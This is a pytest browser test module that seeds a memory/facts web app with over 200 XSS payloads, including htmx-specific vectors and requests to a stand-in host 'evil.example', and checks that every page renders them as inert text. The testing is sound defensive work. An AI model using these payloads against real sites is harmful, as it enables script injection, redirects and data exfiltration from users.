"""Values and messages that would be markup, script or htmx stay text on every page."""

import itertools
from urllib.error import HTTPError
from urllib.parse import quote, urlsplit

import pytest

from tests.browser.conftest import make_someone, with_facts

ACTS = [
    "alert(1)",
    "fetch('//evil.example/')",
    "top.location='//evil.example/'",
    "document.title='owned'",
]
SHAPES = [
    "<script>{act}</script>",
    "</script><script>{act}</script>",
    "<img src=x onerror={act}>",
    "<svg onload={act}>",
    "<svg><animate onbegin={act} attributeName=x dur=1s>",
    '"><img src=x onerror={act}>',
    "'><img src=x onerror={act}>",
    '" autofocus onfocus="{act}" x="',
    "' onmouseover='{act}' x='",
    "</textarea><script>{act}</script>",
    "</title><script>{act}</script>",
    "<iframe srcdoc='<script>{act}</script>'>",
    "<a href=javascript:{act}>x</a>",
    "<details open ontoggle={act}>x",
    "<video><source onerror={act}></video>",
    "<body onpageshow={act}>",
    "<input autofocus onfocus={act}>",
    "<style onload={act}>*{{}}</style>",
    "<math><mi//xlink:href='javascript:{act}'>",
    "<template><script>{act}</script></template>",
    "<div hx-on:load={act}>x</div>",
    "<div hx-on::after-swap={act} hx-get=/ hx-trigger=load>x</div>",
    "<div hx-get=//evil.example/?{act} hx-trigger=load>x</div>",
    '<noscript><p title="</noscript><img src=x onerror={act}>">',
    "<svg><use href='//evil.example/#{act}'></use></svg>",
    '<div hx-get="/" hx-trigger="load[{act}]">x</div>',
    "<div hx-vals='js:{{a:{act}}}' hx-get=/ hx-trigger=load>x</div>",
    "<div id=status hx-swap-oob=true><img src=x onerror={act}></div>",
    "<meta http-equiv=refresh content='0;url=//evil.example/?{act}'>",
    "<base href=//evil.example/><script src={act}></script>",
    "<link rel=stylesheet href=//evil.example/?{act}>",
    "<form action=//evil.example/><button autofocus>{act}",
    "<object data='//evil.example/?{act}'></object>",
    "<embed src='//evil.example/?{act}'>",
    "<img src=//evil.example/?{act}>",
    "{{% debug %}}{{{{ {act} }}}}",
    "<!--><img src=x onerror={act}>-->",
    "<![CDATA[<img src=x onerror={act}>]]>",
    "&lt;img src=x onerror={act}&gt;",
    "\\u003cimg src=x onerror={act}\\u003e",
    "<x contenteditable onblur={act}>x",
    "<marquee onstart={act}>x</marquee>",
    "javascript:{act}",
    "<SCRIPT/SRC='//evil.example/{act}'></SCRIPT>",
    "<img/src/onerror={act}>",
    "<p style=\"background:url('//evil.example/?{act}')\">x</p>",
    "<div data-hx-get=//evil.example/ data-hx-trigger=load>{act}</div>",
    "<button popovertarget=x onclick={act}>x</button><div popover id=x onbeforetoggle={act}>",
    "<select autofocus onfocus={act}><option>x",
    "<area href=javascript:{act}>",
    "<audio src=x onerror={act}>",
    "<div hx-confirm=x hx-delete=/facts/a/ hx-trigger=load>{act}</div>",
]
PAYLOADS = [shape.format(act=act) for shape, act in itertools.product(SHAPES, ACTS)]
IN_A_MESSAGE = 20  # payloads


@pytest.fixture(scope="module")
def hostile(server, tmp_path_factory):
    facts = [{"key": f"note_{n:03}", "value": text} for n, text in enumerate(PAYLOADS)]
    someone = make_someone(server, "hostile", with_facts(tmp_path_factory.mktemp("h"), facts))
    saved = [_save(someone, f"saved_{n}", text) for n, text in enumerate(PAYLOADS[::15])]
    assert any(saved)
    asked = ["what do you remember about me? " + " ".join(part) for part in _parts(PAYLOADS)]
    return someone, [someone.apply(message)["answer"] for message in asked]


def _save(someone, key, text):
    """Whether it was taken, in force or to wait; much of it the write gate refuses."""
    try:
        someone.call("PUT", f"facts/{key}/", {"value": text})
    except HTTPError as error:
        if error.code != 422:
            raise
        return False
    return True


class Watched:
    """What a page does that no page of ours does."""

    def __init__(self, page, server):
        self.seen: list[str] = []
        self.host = urlsplit(server.url).netloc
        page.on("dialog", self._dialog)
        page.on("console", lambda message: self.seen.append(message.text))
        page.on("pageerror", lambda error: self.seen.append(str(error)))
        page.on("request", self._request)

    def _dialog(self, dialog):
        self.seen.append("dialog")
        dialog.dismiss()

    def _request(self, request):
        if urlsplit(request.url).netloc != self.host:
            self.seen.append(request.url)


def test_there_are_enough_payloads():
    assert len(set(PAYLOADS)) >= 200
    assert all(len(payload) <= 200 for payload in PAYLOADS)


def test_every_page_shows_them_as_text(hostile, make_page):
    someone, refs = hostile
    page = make_page()
    watched = Watched(page, someone.server)
    someone.sign_in(page)
    lists = [f"/facts/?page={number}" for number in range(1, len(PAYLOADS) // 50 + 1)]
    facts = [f"/facts/note_{n:03}/{form}" for n in range(0, 200, 7) for form in ("", "correct/")]
    more = [f"/facts/note_{n:03}/overwrite/" for n in range(0, 200, 20)]
    searches = [f"/facts/?q={quote(payload)}" for payload in PAYLOADS[::10]]
    for path in ("/", *lists, *facts, *more, *searches, *(f"/answers/{ref}/" for ref in refs)):
        page.goto(someone.server.url + path, wait_until="load")
        assert watched.seen == [], path
        assert "owned" not in page.title(), path


def test_they_stay_text_in_what_htmx_swaps_in(hostile, make_page):
    someone, _ = hostile
    page = make_page()
    watched = Watched(page, someone.server)
    someone.sign_in(page, at="/facts/")
    for number in range(0, 40, 3):
        page.get_by_role("link", name=f"Correct note_{number:03}", exact=True).click()
        field = page.get_by_label(f"Correct note_{number:03} to")
        assert field.input_value() == PAYLOADS[number]
        field.fill(PAYLOADS[-1 - number])
        page.get_by_role("button", name=f"Correct note_{number:03}").click()
        page.locator(".done", has_text=f"note_{number:03} corrected").wait_for()
        assert watched.seen == [], PAYLOADS[number]


def _parts(payloads):
    return [payloads[at : at + IN_A_MESSAGE] for at in range(0, len(payloads), IN_A_MESSAGE)]
